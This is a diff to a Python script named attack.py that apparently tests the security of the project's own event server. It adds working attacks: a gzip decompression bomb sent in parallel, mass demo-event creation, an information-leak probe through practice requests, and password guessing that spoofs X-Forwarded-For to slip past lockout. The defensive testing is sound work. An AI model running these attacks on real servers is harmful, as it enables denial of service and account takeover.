@@ -7,6 +7,14 @@
     attack.py healthz BASE SECONDS OUT  /healthz every 50 ms, latencies written to OUT
     attack.py rss PID SECONDS OUT       the server's resident memory every 100 ms, peak to OUT
     attack.py store BASE                the page store as /healthz reports it
+    attack.py bomb BASE PID TOKEN       a 66 KB gzip archive of 60 MB of empty tags, once and
+                                        six at once: statuses and the peak memory's growth
+    attack.py tokens BASE               a garbage bearer token on every public API read
+    attack.py demos BASE EMAIL N        N demonstration events asked from the web by one account
+    attack.py oracle BASE TOKEN DELAY N a game entered live behind DELAY minutes of delay, then N
+                                        anonymous practice requests over its positions
+    attack.py guesser BASE EMAIL        wrong passwords from one address, then the owner's from
+                                        another (the server trusts X-Forwarded-For)
 
 Standard library only. Each prints one line of JSON with its figures.
 """
@@ -223,6 +231,144 @@ def rss(pid, seconds, out):
         json.dump({"start_mb": round(start, 1), "peak_mb": round(peak, 1)}, f)
 
 
+def peak_kib(pid):
+    with open(f"/proc/{pid}/status") as f:
+        return int(re.search(r"VmHWM:\s+(\d+)", f.read()).group(1))
+
+
+def send(base, method, path, body=None, headers=None):
+    host, port = host_port(base)
+    conn = http.client.HTTPConnection(host, port, timeout=120)
+    conn.request(method, path, body=body, headers=headers or {})
+    resp = conn.getresponse()
+    data = resp.read()
+    conn.close()
+    return resp.status, data
+
+
+def bomb(base, pid, token):
+    import gzip
+    head = (b'{"format": "kiela-event-archive", "version": 2, "exported_at": "2026-12-01T00:00:00Z",'
+            b' "installation": {"id": "ABCDEF", "name": "Bomba", "role": "venue"},'
+            b' "event": {"id": 1, "slug": "b", "name": "B", "state": "running", "settings": {"name": "B"}},'
+            b' "players": [{"tags": [')
+    body = gzip.compress(head + b'"",' * 20_000_000 + b'""]}]}', 9)
+    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/gzip"}
+    before = peak_kib(pid)
+    first, said = send(base, "POST", "/api/v1/archives", body, headers)
+    statuses = [first]
+    threads = []
+    out = []
+    for _ in range(6):
+        t = threading.Thread(target=lambda: out.append(send(base, "POST", "/api/v1/archives", body, headers)[0]))
+        t.start()
+        threads.append(t)
+    for t in threads:
+        t.join()
+    statuses += out
+    code = json.loads(said)["error"]["code"]
+    print(json.dumps({"sent_kb": round(len(body) / 1024), "statuses": statuses, "code": code,
+                      "peak_growth_mb": round((peak_kib(pid) - before) / 1024, 1)}))
+
+
+def tokens(base):
+    paths = ["/api/v1/events", "/api/v1/ratings", "/api/v1/registry?q=a", "/api/v1/openapi.json"]
+    out = {}
+    for path in paths:
+        status, _ = send(base, "GET", path, headers={"Authorization": "Bearer not-a-token"})
+        out[path] = status
+    print(json.dumps(out))
+
+
+def log_in(base, email, password, forwarded=None):
+    """A session: the login form's token, then the form; the status and the cookies."""
+    host, port = host_port(base)
+    conn = http.client.HTTPConnection(host, port, timeout=30)
+    conn.request("GET", "/login")
+    resp = conn.getresponse()
+    page = resp.read().decode()
+    cookies = [v.split(";")[0] for k, v in resp.getheaders() if k.lower() == "set-cookie"]
+    token = re.search(r'name="csrf" value="([0-9a-f]+)"', page).group(1)
+    form = urllib.parse.urlencode({"csrf": token, "email": email, "password": password})
+    headers = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": "; ".join(cookies)}
+    if forwarded:
+        headers["X-Forwarded-For"] = forwarded
+    conn.request("POST", "/login", body=form, headers=headers)
+    resp = conn.getresponse()
+    resp.read()
+    cookies += [v.split(";")[0] for k, v in resp.getheaders() if k.lower() == "set-cookie"]
+    conn.close()
+    return resp.status, cookies
+
+
+def demos(base, email, n):
+    status, cookies = log_in(base, email, "a-long-password")
+    jar = "; ".join(cookies)
+    host, port = host_port(base)
+    statuses = []
+    for _ in range(n):
+        conn = http.client.HTTPConnection(host, port, timeout=120)
+        conn.request("GET", "/", headers={"Cookie": jar})
+        page = conn.getresponse().read().decode()
+        found = re.search(r'name="csrf" value="([0-9a-f]+)"', page)
+        form = urllib.parse.urlencode({"csrf": found.group(1) if found else ""})
+        conn.request("POST", "/events/demo", body=form,
+                     headers={"Cookie": jar, "Content-Type": "application/x-www-form-urlencoded"})
+        resp = conn.getresponse()
+        resp.read()
+        statuses.append(resp.status)
+        conn.close()
+    print(json.dumps({"login": status, "made": statuses.count(303), "refused_429": statuses.count(429),
+                      "other": [s for s in statuses if s not in (303, 429)]}))
+
+
+def oracle(base, token, delay, n):
+    auth = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
+    def api(method, path, body=None):
+        status, data = send(base, method, path, json.dumps(body) if body is not None else None, auth)
+        return status, (json.loads(data) if data else None)
+    _, event = api("POST", "/api/v1/events", {"name": f"Oracle {delay}", "rounds": 3, "live_delay_minutes": delay})
+    for name in ("Ana", "Bento"):
+        api("POST", f"/api/v1/events/{event['id']}/players", {"name": name})
+    _, round_ = api("POST", f"/api/v1/events/{event['id']}/rounds")
+    game = round_["pairings"][0]["game_id"]
+    played = []
+    ply = 1
+    while len(played) < 8:
+        status, after = api("POST", f"/api/v1/games/{game}/moves", {"ply": ply, "move": "x"})
+        legal = after["error"]["legal"]
+        status, after = api("POST", f"/api/v1/games/{game}/moves", {"ply": ply, "move": legal[0]})
+        played.append(legal[0])
+        ply += 1
+    statuses = {}
+    for i in range(n):
+        plies = 1 + i % len(played)
+        side = "N" if plies % 2 == 0 else "S"
+        form = urllib.parse.urlencode({"variant": "advanced", "level": "1", "side": side,
+                                       "moves": " ".join(played[:plies]), "play": ""})
+        host, port = host_port(base)
+        conn = http.client.HTTPConnection(host, port, timeout=30)
+        conn.request("GET", "/practice")
+        resp = conn.getresponse()
+        page = resp.read().decode()
+        cookies = "; ".join(v.split(";")[0] for k, v in resp.getheaders() if k.lower() == "set-cookie")
+        token_found = re.search(r'name="csrf" value="([0-9a-f]+)"', page)
+        form += "&csrf=" + (token_found.group(1) if token_found else "")
+        conn.request("POST", "/practice", body=form,
+                     headers={"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookies})
+        resp = conn.getresponse()
+        resp.read()
+        conn.close()
+        statuses[resp.status] = statuses.get(resp.status, 0) + 1
+    print(json.dumps({"delay_minutes": delay, "asked": n, "statuses": statuses}))
+
+
+def guesser(base, email):
+    statuses = [log_in(base, email, "guess-guess", "198.51.100.66")[0] for _ in range(6)]
+    owner = log_in(base, email, "a-long-password", "203.0.113.20")[0]
+    print(json.dumps({"guesser": statuses, "owner_elsewhere": owner}))
+
+
 def store(base):
     host, port = host_port(base)
     conn = http.client.HTTPConnection(host, port, timeout=30)
@@ -244,5 +390,15 @@ if __name__ == "__main__":
         rss(int(args[0]), float(args[1]), args[2])
     elif cmd == "store":
         store(args[0])
+    elif cmd == "bomb":
+        bomb(args[0], int(args[1]), args[2])
+    elif cmd == "tokens":
+        tokens(args[0])
+    elif cmd == "demos":
+        demos(args[0], args[1], int(args[2]))
+    elif cmd == "oracle":
+        oracle(args[0], args[1], int(args[2]), int(args[3]))
+    elif cmd == "guesser":
+        guesser(args[0], args[1])
     else:
         sys.exit(f"unknown command {cmd}")
